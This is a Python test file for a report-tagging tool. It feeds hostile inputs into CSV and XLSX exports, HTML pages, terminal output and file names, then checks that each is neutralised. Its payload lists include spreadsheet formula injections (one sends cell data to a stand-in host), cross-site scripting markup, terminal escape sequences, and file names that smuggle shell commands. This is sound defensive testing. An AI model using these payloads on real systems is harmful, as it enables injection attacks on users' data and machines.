from __future__ import annotations

import csv
import io
import json
import os
import re
import sys
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import CORPUS

from clas_nlp.cli.app import main
from clas_nlp.codebook import Codebook, load_codebook
from clas_nlp.corpus import LabelledParagraph, load_corpus
from clas_nlp.exchanging import export
from clas_nlp.reading import parse_report
from clas_nlp.recurring import (
    Inspection,
    action_plan,
    action_sheet,
    compare,
    frame_csv,
    recurring_page,
    report_page,
)
from clas_nlp.tagging import TaggedParagraph, Tagger
from clas_nlp.tagging.output import csv_text

FORMULAS = [
    '=HYPERLINK("http://a.example?"&A1,"more")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=1+1\n=2+2",
    "#N/A",
]
MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "]]><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)><animate onbegin=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<iframe src=http://a.example></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'http://a.example'</style>",
    "<base href=http://a.example><meta http-equiv=refresh content=0>",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    "\u2028alert(1)\u2029",
]
ESCAPES = [
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://a.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;aGk=\x07",
    "\x9b31m",
    "\x08\x08\x08",
    "\x1b[2J\x1b[H",
    "[red]rich[/red] [link=http://a.example]x[/link]",
    "\u202egnp.exe",
]
WEAKNESS = "Staff have no regular one-to-one safeguarding supervision."


def hostile(payload: str) -> str:
    """A report whose title, headings, findings and recommendations hold a payload."""
    return (
        f"# Review of {payload}\n\nThe child's journey\n\n## {payload}\n\n"
        f"1.1 {payload} {WEAKNESS} {payload}\n\n"
        f"1.2 {WEAKNESS} (Recommendation 1.1)\n\n"
        f"Recommendations\n\nThe {payload} Trust should:\n\n1.1 {payload} Supervise staff.\n"
    )


def finding(text: str) -> LabelledParagraph:
    """A paragraph of the corpus with another text, and labels on all of it."""
    corpus = load_corpus([CORPUS / "dorset.jsonl"])
    first = next(p for p in corpus.paragraphs if p.labels)
    return replace(first, text=text, labels=(replace(first.labels[0], start=0, end=len(text)),))


@pytest.fixture(scope="module")
def book() -> Codebook:
    return load_codebook(CORPUS / "codebook")


def is_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


# ------------------------------------------------------------------ spreadsheets


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_cell_of_a_table_is_a_formula(payload: str, tmp_path: Path, book: Codebook) -> None:
    out = tmp_path / "labels.csv"
    export([finding(payload)], "csv", out, book)
    own = TaggedParagraph(
        id=payload,
        report=payload,
        kind="finding",
        number=payload,
        section=payload,
        page=None,
        start=0,
        end=len(payload),
        text=payload,
        services=(),
        recommendations=(),
        themes=(),
        probabilities={},
    )
    for text in (out.read_text(encoding="utf-8-sig"), csv_text([own])):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [cell for cell in cells if is_formula(cell)]
        assert any(payload in cell for cell in cells)


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula(payload: str, tmp_path: Path, book: Codebook) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "labels.xlsx"
    export([finding(payload)], "xlsx", out, book)
    cells = [c for sheet in load_workbook(out) for row in sheet for c in row if c.value is not None]
    assert {c.data_type for c in cells} <= {"s", "n", "d"}
    assert any(c.value == payload for c in cells)


@pytest.mark.parametrize("payload", FORMULAS[:5])
def test_no_cell_of_an_action_plan_is_a_formula(payload: str, tagger: Tagger) -> None:
    from openpyxl import load_workbook

    report = parse_report(hostile(payload), report_id=payload)
    frame = action_plan(report, tagger.tag(report), tagger.codebook)
    sheets = load_workbook(io.BytesIO(action_sheet(frame)))
    assert {c.data_type for s in sheets for row in s for c in row} <= {"s", "n", "d"}
    cells = [cell for row in csv.reader(io.StringIO(frame_csv(frame))) for cell in row]
    assert not [cell for cell in cells if is_formula(cell)]


# ------------------------------------------------------------------ pages


class Tags(HTMLParser):
    """What a browser would make of a page: elements, attributes, and the JSON in it."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.json = ""
        self.text = ""
        self.in_json = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        self.in_json = ("type", "application/json") in attrs

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_json = False

    def handle_data(self, data: str) -> None:
        self.text += data
        if self.in_json:
            self.json += data


def assert_harmless(page: str) -> Tags:
    """Nothing in a page is there that the templates did not put there."""
    found = Tags()
    found.feed(page)
    assert found.elements.count("script") == 2
    assert not {"iframe", "base", "img", "object", "embed", "animate"} & set(found.elements)
    assert not [name for name, _ in found.attributes if name.startswith("on")]
    links = [value for name, value in found.attributes if name in ("href", "src", "xlink:href")]
    assert not [link for link in links if not link.startswith("#")]
    json.loads(found.json)
    assert "<" not in found.json
    policy = next(value for name, value in found.attributes if "default-src" in value)
    assert policy.startswith("default-src 'none'; ")
    assert "unsafe" not in policy
    assert "http:" not in policy
    return found


@pytest.mark.parametrize("payload", MARKUP)
def test_the_page_of_recurring_weaknesses_is_harmless(payload: str, tagger: Tagger) -> None:
    inspections = []
    for own in ("a", "b"):
        report = parse_report(hostile(payload), report_id=own + payload)
        report = replace(report, details=replace(report.details, area=payload))
        tagged = [
            replace(p, text=p.text, section=payload, number=p.number) for p in tagger.tag(report)
        ]
        inspections.append(Inspection.from_report(report, tagged, tagger.codebook))
    comparison = compare(inspections, codebook=tagger.codebook)
    for by in ("area", "section"):
        assert_harmless(recurring_page(comparison, by=by, accuracy=payload))


@pytest.mark.parametrize("payload", MARKUP)
def test_a_page_has_no_element_from_a_report(payload: str, tagger: Tagger) -> None:
    def page(put_in: str) -> Tags:
        report = parse_report(hostile(put_in), report_id=put_in)
        # Markdown's reader takes tags away; bare paragraphs and other formats keep them.
        paragraphs = tuple(
            replace(p, text=p.text[:-1] + put_in[: len(p.text)], section=put_in)
            for p in report.paragraphs
        )
        report = replace(report, paragraphs=paragraphs)
        return assert_harmless(report_page(report, tagger.tag(report), tagger.codebook))

    found = page(payload)
    if "7 * 7" in payload:
        assert "{{ 7 * 7 }}" in found.text


# ------------------------------------------------------------------ the terminal


@pytest.mark.parametrize("payload", ESCAPES)
@pytest.mark.parametrize("command", ["read", "tag"])
def test_no_terminal_command_is_printed(
    payload: str,
    command: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = tmp_path / "report.txt"
    # Enough text that the file does not count as a binary one.
    path.write_text(hostile(payload) + f"\n{WEAKNESS}\n" * 60, encoding="utf-8")
    monkeypatch.setattr(sys, "argv", ["clas-nlp", command, str(path)])
    with pytest.raises(SystemExit) as stop:
        main()
        raise SystemExit(0)
    assert stop.value.code in (0, None)
    shown = capsys.readouterr()
    assert not re.findall(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown.out + shown.err)
    assert "\u202e" not in shown.out + shown.err


# ------------------------------------------------------------------ file names


NAMES = [
    "=1+1.txt",
    "-rf.txt",
    "a\x1b[31mb.txt",
    "a\nb.txt",
    "<img src=x onerror=alert(1)>.txt",
    "$(touch gone).txt",
    "a;touch gone.txt",
    "%s%n{0}.txt",
    "\u202etxt.exe",
    "\udcff\udcfe.txt",
]


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no such file names")
@pytest.mark.parametrize("name", NAMES)
def test_file_names_are_only_names(
    name: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    Path(name).write_text(hostile("x"), encoding="utf-8")
    for arguments in (
        ["read", "--format", "jsonl", "--out", "out.jsonl", "--", name],
        ["read", "--", name],
        ["actions", "--", name],
        ["read", "--", f"{name}.missing"],
    ):
        monkeypatch.setattr(sys, "argv", ["clas-nlp", *arguments])
        with pytest.raises(SystemExit) as stop:
            main()
            raise SystemExit(0)
        expected = 2 if arguments[-1].endswith(".missing") else 0
        assert (stop.value.code or 0) == expected
        shown = capsys.readouterr()
        assert all(line.isprintable() for line in shown.err.splitlines())
        if expected:
            assert len(shown.err.splitlines()) == 1
    rows = Path("out.jsonl").read_text(encoding="utf-8").splitlines()
    assert {json.loads(row)["report"] for row in rows} == {
        # Names are bytes; what is no text in them is no text of JSON either.
        os.fsencode(Path(name).stem).decode("utf-8", "replace")
    }
    assert {p.name for p in tmp_path.iterdir()} == {name, "out.jsonl"}
